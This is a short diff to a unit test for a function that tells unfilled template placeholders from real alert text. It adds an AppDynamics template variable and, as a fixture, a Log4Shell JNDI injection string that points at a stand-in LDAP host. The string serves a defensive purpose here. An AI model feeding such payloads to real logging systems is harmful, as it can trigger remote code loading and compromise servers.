@@ -63,6 +63,8 @@ test('a variable of a template that nobody filled in is a placeholder, a text wi
     '$ALERT_ID',
     // biome-ignore lint/suspicious/noTemplateCurlyInString: the template of a sender, not ours.
     '${ALERT_CYCLE_KEY}',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the template of AppDynamics, not ours.
+    '${latestEvent.node.id}',
     '{{ json issueId }}',
     ' {{alert_name}} ',
     '*UNKNOWN*',
@@ -73,6 +75,8 @@ test('a variable of a template that nobody filled in is a placeholder, a text wi
   for (const text of unfilled) expect(isPlaceholder(text)).toBe(true)
   const texts = [
     'C$',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack in an alert.
+    '${jndi:ldap://192.0.2.4/a}',
     '$5',
     '{0EEDCC09-1111}',
     '{"a":1}',
